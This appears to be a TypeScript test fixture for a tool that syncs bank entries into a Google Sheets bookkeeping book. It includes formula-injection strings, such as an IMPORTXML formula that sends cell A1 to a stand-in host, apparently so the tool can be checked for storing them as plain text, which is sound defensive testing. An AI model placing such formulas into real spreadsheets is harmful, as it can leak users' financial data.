import type { sheets_v4 } from '@googleapis/sheets/build/v4.js';
import type { Draft, EntryFacts } from '../../cloud/core/documents.ts';
import type { World } from '../../cloud/core/world.ts';
import type { TransactionColumn } from '../../shared/book.ts';
import { type Money, parseMoney } from '../../shared/money.ts';
import type { Batch, DeliveringBook } from './delivering.ts';

export const euro = (amount: string): Money => parseMoney(amount, 'EUR');

export function facts(amount: string, more: Partial<EntryFacts> = {}): EntryFacts {
  return {
    date: '2026-03-01',
    counterparty: 'Cafe Rot',
    text: 'COFFEE',
    amount: euro(amount),
    pending: false,
    ...more,
  };
}

export function draft(id: string, now?: EntryFacts, was?: EntryFacts): Draft {
  return { id, account: 'Assets:Checking', ...(was && { was }), ...(now && { now }) };
}

export function checkingAt(bankBalance: string, bookBalance = bankBalance): Batch['accounts'][0] {
  return {
    bookAccount: { path: 'Assets:Checking', type: 'asset', currency: 'EUR' },
    bankBalance: euro(bankBalance),
    bookBalance: euro(bookBalance),
  };
}

/** What Apps Script would take for a formula, a number, a day or a tick, were it typed. */
export const strangeTexts = [
  '=IMPORTXML("https://x.example/"&A1)',
  '+49 30 1234',
  '+A1',
  '-5',
  '@all',
  "'quoted",
  "''",
  '1.3.2026',
  '007',
  '50%',
  'TRUE',
  '#REF!',
  'a\nb',
  ' x ',
];

const pending = facts('-12.50', { pending: true });
const vanishing = facts('-3.00', { pending: true });
const dollars = facts('-50.00', { date: '2026-02-27', original: parseMoney('-55.10', 'USD') });
const saved = facts('7.00', { balanceAfter: euro('93.00') });

/** Rows with everything that a row can have. */
export const firstBatch: Batch = {
  drafts: [
    draft('e1', pending),
    draft('e2', dollars),
    draft('e3', facts('-1.00', { text: '=IMPORTXML("https://x.example/")', counterparty: '' })),
    draft('e4', saved),
    draft('e5', vanishing),
    draft('e6', facts('-8.00', { date: '2026-02-28' })),
  ],
  accounts: [checkingAt('100.05', '100.00')],
};

/** A pending entry is booked, one vanishes, amounts and notes change, rows come. */
export const secondBatch: Batch = {
  drafts: [
    draft('e1', facts('-13.20', { date: '2026-03-03', text: '=COFFEE' }), pending),
    draft('e2', { ...dollars, original: parseMoney('-56.00', 'USD') }, dollars),
    draft('e4', { ...saved, amount: euro('7.50') }, saved),
    draft('e5', undefined, vanishing),
    draft('e7', facts('-20.00', { date: '2026-03-04', balanceAfter: euro('73.00') })),
    draft('e8', {
      ...facts('0.00', { date: '2026-03-05' }),
      amount: { minor: 5, currency: 'JPY' },
    }),
  ],
  accounts: [
    checkingAt('73.00'),
    { bookAccount: { path: 'Liabilities:Card', type: 'liability' }, bankBalance: euro('-4.00') },
  ],
};

/** What a user does to a book with the first batch: names, places and rows change, nothing of it is ours to change back. */
export async function rearrange({ sheet }: World, book: DeliveringBook): Promise<void> {
  const { transactions } = await sheet.readBook(book.id);
  if (!transactions) throw new Error('there is no book yet');
  const { sheetId, columns, rows } = transactions;
  const at = (column: TransactionColumn) => columns[column] ?? -1;
  const one = (startIndex: number) => ({
    range: { sheetId, dimension: 'COLUMNS', startIndex, endIndex: startIndex + 1 },
  });
  const put = (rowIndex: number, columnIndex: number, value: sheets_v4.Schema$ExtendedValue) => ({
    updateCells: {
      start: { sheetId, rowIndex, columnIndex },
      rows: [{ values: [{ userEnteredValue: value }] }],
      fields: 'userEnteredValue',
    },
  });
  const rowOf = (id: string) =>
    rows.find(({ cells }) => cells.id?.kind === 'text' && cells.id.text === id)?.index ?? -1;
  await book.edit(
    put(rowOf('e4'), at('posted'), { boolValue: true }),
    put(rowOf('e4'), at('counterAccount'), { stringValue: 'Income:Interest' }),
    put(rowOf('e2'), at('description'), { stringValue: 'my words' }),
    put(0, at('amount'), { stringValue: 'How much' }),
    put(9, at('description'), { stringValue: 'a row of my own' }),
    {
      sortRange: {
        range: { sheetId, startRowIndex: 1, endRowIndex: 7 },
        sortSpecs: [{ dimensionIndex: at('amount') }],
      },
    },
    { updateSheetProperties: { properties: { sheetId, title: 'My ‘Geld’' }, fields: 'title' } },
    // Columns of the user's own between ours, one of them computed.
    { insertDimension: one(2) },
    put(0, 2, { stringValue: 'Mine' }),
    put(2, 2, { formulaValue: '=A3' }),
    { moveDimension: { source: one(at('currency') + 1).range, destinationIndex: 0 } },
  );
}
